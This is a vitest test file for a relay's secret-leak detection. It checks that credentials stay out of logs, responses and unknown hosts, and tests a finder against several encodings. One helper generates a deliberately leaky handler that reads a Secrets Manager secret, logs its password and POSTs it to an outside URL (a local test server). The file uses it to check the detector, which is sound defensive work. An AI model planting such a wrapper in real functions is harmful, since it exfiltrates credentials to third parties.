import { existsSync } from 'node:fs';
import { once } from 'node:events';
import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { projectRoot } from '../../infra/deployment.ts';
import { bringUp, type Relay } from '../../tools/local-cloud/bring-up.ts';
import { DrivenClock } from '../../tools/local-cloud/index.ts';
import { perform } from '../../tools/demo/perform.ts';
import { operatorOf } from './credentials-operator.ts';
import { LeakFinder, type Mark } from './leaks-finder.ts';
import { marked, markedNext, markedWorld, markedWrong, marks, watchedBy } from './leaks-world.ts';

const secretName = 'chorus-relay/qualification/example';
const clock = () => new DrivenClock({ start: new Date('2026-11-23T09:00:00+01:00') });

/** Where something that is marked belongs, and why. */
const belongs: readonly { where: RegExp; why: string }[] = [
  {
    where: / in secretsmanager:PutSecretValue on /,
    why: 'the rotation function stores the credentials that take over',
  },
  {
    where: /^an IBAN in s3:PutObject on /,
    why: 'each command is kept as it came: docs/adr/0004-what-is-kept.md',
  },
];
/** Functions that a person may call by hand, who reads the answer. */
const answering = /-(watch-credentials|check-connection|poll-[a-z]+)$/;
const astray = (finder: LeakFinder) => finder.found.filter((one) => !belongs.some(({ where }) => where.test(one)));

/** Whom the functions may reach: AWS, and Chorus Pro with PISTE, which here are one. */
const strangers = ({ cloud, simulator }: Relay): string[] => {
  const known = [cloud.endpoint, simulator?.url ?? ''].map((url) => new URL(url).host);
  return [...cloud.reached].filter((address) => !known.includes(address));
};

describe('all that the relay does with marked secrets', () => {
  const finder = new LeakFinder(marks);
  const { onLog, watch } = watchedBy(finder);
  let relay: Relay;

  beforeAll(async () => {
    relay = await bringUp({ clock: clock(), world: markedWorld(), onLog });
    const { cloud } = relay;
    cloud.storeSecret(secretName, marked);
    watch(relay);
    await perform(relay);
    const operator = operatorOf(relay);
    await operator.stage(markedWrong);
    await operator.stage(markedNext);
    expect(await operator.inUse()).toContain(markedNext.pisteClientSecret);
    operator.close();
    for (const name of cloud.functions.filter((one) => answering.test(one)))
      finder.look(`the answer of ${name}`, JSON.stringify(await cloud.invoke(name, { connection: 'example' })));
    // Credentials that are refused from one moment to the next.
    cloud.storeSecret(secretName, markedWrong);
    await cloud.advance(24 * 3_600_000, { catchUp: 'last' });
  });
  afterAll(() => relay.stop());

  it('leaves nothing of them where it does not belong', () => {
    expect(finder.bytes).toBeGreaterThan(1_000_000);
    const unlooked = relay.cloud.functions.flatMap((name) =>
      [`the log of ${name}`, ...(answering.test(name) ? [`the answer of ${name}`] : [])].filter(
        (place) => !finder.places.has(place),
      ),
    );
    expect(unlooked).toEqual([]);
    expect(astray(finder)).toEqual([]);
  });

  it('puts them where they belong', () => {
    for (const { where, why } of belongs)
      expect(
        finder.found.some((one) => where.test(one)),
        why,
      ).toBe(true);
  });

  it('reaches nobody but AWS, PISTE and Chorus Pro', () => {
    expect(relay.cloud.reached.size).toBeGreaterThan(0);
    expect(strangers(relay)).toEqual([]);
  });
});

/** The real functions, of which watch-credentials gives a secret away before it does its work. */
async function functionsThatLeak(stranger: string): Promise<string> {
  const source = await mkdtemp(join(tmpdir(), 'chorus-relay-leaks-'));
  onTestFinished(() => rm(source, { recursive: true }));
  const functions = join(projectRoot, 'functions');
  for (const name of await readdir(functions)) {
    if (!existsSync(join(functions, name, 'handler.ts'))) continue;
    await mkdir(join(source, name));
    const real = JSON.stringify(join(functions, name, 'handler.ts'));
    await writeFile(
      join(source, name, 'handler.ts'),
      name === 'watch-credentials' ? leaky(real) : `export * from ${real};`,
    );
  }
  return source;

  function leaky(real: string): string {
    return `
      import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
      import { handler as work } from ${real};
      const client = new SecretsManagerClient();
      export const handler = async (event, context) => {
        const secret = await client.send(new GetSecretValueCommand({ SecretId: '${secretName}' }));
        console.log(JSON.parse(secret.SecretString).technicalPassword);
        await fetch('${stranger}', { method: 'POST', body: secret.SecretString });
        return work(event, context);
      };`;
  }
}

describe('the finder', () => {
  it('finds a secret that one function logs on purpose, and whom it was sent to', async () => {
    const server = createServer((_request, response) => response.end());
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    onTestFinished(() => void server.close());
    const address = server.address();
    const port = address !== null && typeof address === 'object' ? address.port : 0;

    const finder = new LeakFinder(marks);
    const { onLog, watch } = watchedBy(finder);
    const source = await functionsThatLeak(`http://127.0.0.1:${port}`);
    const build = { source, outdir: join(source, '..', `${source}-built`) };
    onTestFinished(() => rm(build.outdir, { recursive: true }));
    const relay = await bringUp({ clock: clock(), world: markedWorld(), onLog, build });
    onTestFinished(() => relay.stop());
    relay.cloud.storeSecret(secretName, marked);
    watch(relay);
    expect(await relay.cloud.invoke('watch-credentials')).toHaveProperty('payload');
    const name = relay.cloud.functions.find((one) => one.endsWith('-watch-credentials')) ?? '';
    expect(astray(finder)).toEqual([`technicalPassword in the log of ${name}`]);
    expect(strangers(relay)).toEqual([`127.0.0.1:${port}`]);
  });

  const secret: Mark = { name: 'secret', value: 'päss/word "1"+%' };
  it.each([
    ['as it is', secret.value],
    ['in a JSON text', JSON.stringify({ secret: secret.value })],
    ['in a JSON text within another', JSON.stringify(JSON.stringify({ secret: secret.value }))],
    ['in a form', `a=${encodeURIComponent(secret.value)}`],
    ['in hexadecimal', Buffer.from(`login:${secret.value}`).toString('hex')],
    ['in base64', Buffer.from(secret.value).toString('base64')],
    ['in base64 after one more byte', Buffer.from(`l${secret.value}`).toString('base64')],
    ['in base64 after two more bytes', Buffer.from(`lo${secret.value}:more`).toString('base64')],
    ['in base64 for URLs', Buffer.from(secret.value).toString('base64url')],
    ['as bytes', Buffer.from(`\u0000${secret.value}`)],
  ])('finds it %s', (_how, content) => {
    const finder = new LeakFinder([secret]);
    finder.look('here', content);
    expect(finder.found).toEqual(['secret in here']);
  });

  it('finds nothing where there is nothing', () => {
    const finder = new LeakFinder([secret]);
    finder.look('here', 'pass word 1');
    expect(finder.found).toEqual([]);
  });
});
